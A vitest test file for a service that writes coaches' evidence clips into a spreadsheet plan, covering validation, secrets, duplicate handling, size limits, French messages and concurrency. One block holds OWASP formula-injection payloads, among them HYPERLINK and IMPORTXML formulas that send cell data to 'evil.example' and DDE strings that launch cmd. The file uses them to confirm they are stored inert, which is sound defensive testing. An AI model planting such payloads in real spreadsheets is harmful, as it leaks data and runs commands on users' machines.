import { describe, expect, it } from 'vitest';
import { EVIDENCE_TAB } from '../../shared/owned-tabs';
import { protocolReplySchema, type ClipReply, type ProtocolReply } from '../../shared/protocol';
import { handleProtocolRequest } from '../../shared/protocol-service';
import { AsyncMutex } from '../../local/server/async-mutex';
import {
  GOOD_SECRET,
  REVOKED_SECRET,
  catalogBody,
  clipBody,
  clipItem,
  fakeHost,
} from './protocol-fake-host';

const column = (key: string) => EVIDENCE_TAB.columns.findIndex((c) => c.key === key);

function send(host: ReturnType<typeof fakeHost>, body: string): ProtocolReply {
  const reply = handleProtocolRequest(body, host.deps);
  expect(protocolReplySchema.safeParse(reply).success).toBe(true);
  return reply;
}

function clipReply(reply: ProtocolReply): ClipReply {
  if (!reply.ok || reply.kind !== 'clip')
    throw new Error(`expected a clip reply, got ${JSON.stringify(reply)}`);
  return reply;
}

describe('whole-request failures write nothing', () => {
  const cases: {
    name: string;
    body: string;
    code: string;
    retryable: boolean;
    mentions: RegExp;
    setup?: (h: ReturnType<typeof fakeHost>) => void;
  }[] = [
    {
      name: 'not JSON',
      body: '{"v":1,',
      code: 'bad-request',
      retryable: false,
      mentions: /could not be read/,
    },
    {
      name: 'unknown kind',
      body: JSON.stringify({ v: 1, kind: 'delete-all', secret: GOOD_SECRET }),
      code: 'bad-request',
      retryable: false,
      mentions: /kind/,
    },
    {
      name: 'wrong protocol version',
      body: JSON.stringify({ v: 9, kind: 'catalog', secret: GOOD_SECRET }),
      code: 'bad-request',
      retryable: false,
      mentions: /v:/,
    },
    {
      name: 'empty clip batch',
      body: clipBody([]),
      code: 'bad-request',
      retryable: false,
      mentions: /items/,
    },
    {
      name: 'missing secret',
      body: JSON.stringify({ v: 1, kind: 'clip', items: [clipItem()] }),
      code: 'bad-request',
      retryable: false,
      mentions: /secret/,
    },
    {
      name: 'wrong secret',
      body: clipBody([clipItem()], 'not-the-secret'),
      code: 'unauthorized',
      retryable: false,
      mentions: /new connection code/,
    },
    {
      name: 'revoked coach',
      body: clipBody([clipItem()], REVOKED_SECRET),
      code: 'revoked',
      retryable: false,
      mentions: /revoked.*new connection code/,
    },
    {
      name: 'lock timeout',
      body: clipBody([clipItem()]),
      code: 'busy',
      retryable: true,
      mentions: /Nothing was written/,
      setup: (h) => (h.lockTimesOut = true),
    },
    {
      name: 'no plan in the workbook',
      body: clipBody([clipItem()]),
      code: 'no-plan',
      retryable: true,
      mentions: /No plan table/,
      setup: (h) => (h.hasPlan = false),
    },
  ];
  it.each(cases)('$name → $code', ({ body, code, retryable, mentions, setup }) => {
    const host = fakeHost();
    setup?.(host);
    const reply = send(host, body);
    expect(reply.ok).toBe(false);
    if (reply.ok) return;
    expect(reply.error.code).toBe(code);
    expect(reply.error.retryable).toBe(retryable);
    expect(reply.error.message).toMatch(mentions);
    expect(host.rows).toHaveLength(0);
    expect(host.appendCalls).toBe(0);
  });

  it('answers in French when the plan is French', () => {
    const reply = send(fakeHost('fr'), clipBody([clipItem()], REVOKED_SECRET));
    expect(reply.ok ? '' : reply.error.message).toMatch(/révoquée.*nouveau code de connexion/);
  });
});

describe('catalog', () => {
  it('lists objectives, key results with ids, schools, practices and the vocabularies', () => {
    const reply = send(fakeHost(), catalogBody());
    if (!reply.ok || reply.kind !== 'catalog') throw new Error('expected a catalog');
    const { catalog } = reply;
    expect(catalog.coach).toBe('Ana Coach');
    expect(catalog.objectives[0].keyResults.map((kr) => kr.id)).toEqual([
      'kr-explain',
      'kr-level2',
    ]);
    expect(catalog.schools.map((s) => s.name)).toEqual(['Maple Elementary', 'Oak Middle']);
    expect(catalog.practices).toEqual([
      'Teaching through problem solving',
      'Using representations',
    ]);
    expect(catalog.evidenceTypes).toContain('student-work');
    expect(catalog.stages[0]).toBe('not-yet');
    expect(catalog.locale).toBe('en');
  });
});

describe('clip', () => {
  it('writes every new clip in one append, in Evidence column order', () => {
    const host = fakeHost();
    const items = [
      clipItem(),
      clipItem({
        keyResultId: 'kr-level2',
        type: 'student-work',
        stage: 'routine',
        note: 'Exit tickets',
      }),
    ];
    const reply = clipReply(send(host, clipBody(items)));
    expect(reply.accepted).toEqual(items.map((i) => i.id));
    expect(reply.duplicates).toEqual([]);
    expect(reply.rejected).toEqual([]);
    expect(host.appendCalls).toBe(1);
    expect(host.rows).toHaveLength(2);
    const second = host.rows[1];
    expect(second).toHaveLength(EVIDENCE_TAB.columns.length);
    expect(second[column('id')]).toBe(items[1].id);
    expect(second[column('keyResult')]).toBe('% below level 2');
    expect(second[column('stage')]).toBe('routine');
    expect(second[column('note')]).toBe('Exit tickets');
    expect(second[column('coach')]).toBe('Ana Coach');
    expect(second[column('receivedAt')]).toBe('2026-01-15T10:00:00.000Z');
  });

  it('a replay after a lost reply comes back as duplicates, never a second row', () => {
    const host = fakeHost();
    const body = clipBody([clipItem(), clipItem()]);
    const first = clipReply(send(host, body));
    const replay = clipReply(send(host, body));
    expect(replay.accepted).toEqual([]);
    expect(replay.duplicates).toEqual(first.accepted);
    expect(host.rows).toHaveLength(2);
    expect(host.appendCalls).toBe(1);
  });

  it('the same id twice in one batch is written once', () => {
    const host = fakeHost();
    const item = clipItem();
    const reply = clipReply(send(host, clipBody([item, { ...item, quote: 'again' }])));
    expect(reply.accepted).toEqual([item.id]);
    expect(reply.duplicates).toEqual([item.id]);
    expect(host.rows).toHaveLength(1);
  });

  it('a stored clip whose key result was since reworded is still a duplicate, not a rejection', () => {
    const host = fakeHost();
    const item = clipItem();
    send(host, clipBody([item]));
    const replay = clipReply(send(host, clipBody([{ ...item, keyResultId: 'kr-gone' }])));
    expect(replay.duplicates).toEqual([item.id]);
    expect(replay.rejected).toEqual([]);
  });

  const itemCases: {
    name: string;
    item: Record<string, unknown>;
    code: string;
    message: RegExp;
  }[] = [
    {
      name: 'unknown evidence type',
      item: clipItem({ type: 'gossip' }),
      code: 'invalid-item',
      message: /type/,
    },
    { name: 'id too short', item: clipItem({ id: 'x' }), code: 'invalid-item', message: /id/ },
    {
      name: 'missing capturedAt',
      item: clipItem({ capturedAt: undefined }),
      code: 'invalid-item',
      message: /capturedAt/,
    },
    {
      name: 'not an object',
      item: 'a string' as unknown as Record<string, unknown>,
      code: 'invalid-item',
      message: /malformed/,
    },
    {
      name: 'oversize quote',
      item: clipItem({ quote: 'x'.repeat(20_001) }),
      code: 'too-large',
      message:
        /^The passage of this clip is 20,001 characters long; a passage holds 20,000 characters at most\. Shorten the passage\.$/,
    },
    {
      name: 'oversize note',
      item: clipItem({ note: 'y'.repeat(25_000) }),
      code: 'too-large',
      message:
        /^The note of this clip is 25,000 characters long; a note holds 20,000 characters at most\. Shorten the note\.$/,
    },
    {
      name: 'deleted key result',
      item: clipItem({ keyResultId: 'kr-deleted' }),
      code: 'unknown-key-result',
      message: /no longer in the plan/,
    },
  ];
  it('accepts a passage and a note of exactly 20,000 characters, and words the limit in French', () => {
    const host = fakeHost();
    const atLimit = clipItem({ quote: 'x'.repeat(20_000), note: 'y'.repeat(20_000) });
    expect(clipReply(send(host, clipBody([atLimit]))).accepted).toEqual([atLimit.id]);
    const french = fakeHost('fr');
    const [refused] = clipReply(
      send(french, clipBody([clipItem({ note: 'y'.repeat(20_001) })])),
    ).rejected;
    expect(refused.message).toBe(
      'La note de cet extrait compte 20\u202f001 caractères\u202f; une note en contient au plus 20\u202f000. Raccourcissez la note.',
    );
  });

  it.each(itemCases)(
    'rejects one bad item ($name → $code) and still accepts the others',
    ({ item, code, message }) => {
      const host = fakeHost();
      const good = clipItem();
      const reply = clipReply(send(host, clipBody([item, good])));
      expect(reply.accepted).toEqual([good.id]);
      expect(reply.rejected).toHaveLength(1);
      expect(reply.rejected[0].code).toBe(code);
      expect(reply.rejected[0].message).toMatch(message);
      expect(host.rows.map((row) => row[0])).toEqual([good.id]);
    },
  );

  it('a quote of exactly 20,000 characters is accepted', () => {
    const host = fakeHost();
    const reply = clipReply(send(host, clipBody([clipItem({ quote: 'z'.repeat(20_000) })])));
    expect(reply.accepted).toHaveLength(1);
  });

  it('an all-bad batch appends nothing', () => {
    const host = fakeHost();
    const reply = clipReply(
      send(host, clipBody([clipItem({ keyResultId: 'kr-nope' }), clipItem({ type: 'nope' })])),
    );
    expect(reply.rejected.map((r) => r.code)).toEqual(['invalid-item', 'unknown-key-result']);
    expect(host.appendCalls).toBe(0);
  });

  it('a reference clip keeps the image URL and uses its words as the quote', () => {
    const host = fakeHost();
    const item = clipItem({
      quote: '',
      reference: {
        kind: 'image',
        url: 'https://example.org/work.png',
        text: 'Student work: area model',
      },
    });
    clipReply(send(host, clipBody([item])));
    expect(host.rows[0][column('quote')]).toBe('Student work: area model');
    expect(host.rows[0][column('note')]).toBe('image: https://example.org/work.png');
  });
});

describe('a clip naming a school the Schools tab does not have', () => {
  it("is stored, and the coach is warned in the plan's language; known (any case) and empty schools are not", () => {
    const host = fakeHost();
    const unknown = clipItem({ school: ' Mapel Elementary ' });
    const known = clipItem({ school: 'maple elementary' });
    const none = clipItem({ school: '' });
    const reply = clipReply(send(host, clipBody([unknown, known, none])));
    expect(reply.accepted).toEqual([unknown.id, known.id, none.id]);
    expect(reply.warnings).toEqual([
      {
        id: unknown.id,
        code: 'unknown-school',
        message:
          'Saved, but the school "Mapel Elementary" is not in the plan’s Schools tab, so the Dashboard counts this clip for no school. Choose a school from the list next time, or ask your coordinator to add it.',
      },
    ]);
    expect(host.rows[0][column('school')]).toBe(' Mapel Elementary ');
    // A retry of the same clip is a duplicate: nothing new is written, so nothing new to warn about.
    expect(clipReply(send(host, clipBody([unknown]))).warnings).toEqual([]);
    const french = clipReply(
      send(fakeHost('fr'), clipBody([clipItem({ school: 'École Inconnue' })])),
    );
    expect(french.warnings[0].message).toBe(
      'Enregistré, mais l’école «\u00a0École Inconnue\u00a0» n’est pas dans l’onglet Écoles du plan\u00a0: le tableau de bord ne compte cet extrait pour aucune école. Choisissez une école dans la liste la prochaine fois, ou demandez à votre coordonnateur ou coordonnatrice de l’ajouter.',
    );
  });
});

describe('untrusted text never becomes a formula', () => {
  // OWASP CSV injection payloads, and every character that starts a formula.
  const payloads = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=1+1',
    '+1+1',
    '-1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "=cmd|' /C calc'!A0",
    '\t=1+1',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  ];
  const textFields = ['quote', 'note', 'sourceTitle', 'heading', 'school', 'practice'] as const;

  it.each(payloads)('%j is stored inert in every text column', (payload) => {
    const host = fakeHost();
    const item = clipItem(Object.fromEntries(textFields.map((field) => [field, payload])));
    clipReply(send(host, clipBody([item])));
    for (const field of textFields) {
      const cell = String(host.rows[0][column(field)]);
      expect(cell).toBe(`'${payload}`);
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('stores a leading carriage return as a line break, which no spreadsheet reads as a formula', () => {
    const host = fakeHost();
    clipReply(send(host, clipBody([clipItem({ quote: '\r=1+1', note: '\r\n+1' })])));
    expect(host.rows[0][column('quote')]).toBe('\n=1+1');
    expect(host.rows[0][column('note')]).toBe('\n+1');
  });
});

describe('concurrency', () => {
  it('50 interleaved requests through an async lock write exactly the unique rows', async () => {
    const host = fakeHost();
    const mutex = new AsyncMutex();
    const unique = Array.from({ length: 30 }, () => clipItem());
    // Each request carries a window of overlapping clips; some are exact replays.
    const bodies = Array.from({ length: 50 }, (_, i) =>
      clipBody(unique.slice(i % 25, (i % 25) + 6)),
    );
    const replies = await Promise.all(
      bodies.map(async (body, i) => {
        await new Promise((resolve) => setTimeout(resolve, (i * 7) % 5));
        const outcome = await mutex.run(async () => {
          await Promise.resolve();
          return handleProtocolRequest(body, host.deps);
        });
        return outcome.ok ? clipReply(outcome.value) : null;
      }),
    );
    const ids = host.rows.map((row) => row[0]);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.sort()).toEqual(unique.map((u) => u.id).sort());
    const accepted = replies.flatMap((r) => r?.accepted ?? []);
    expect(accepted.sort()).toEqual(unique.map((u) => u.id).sort());
  });
});
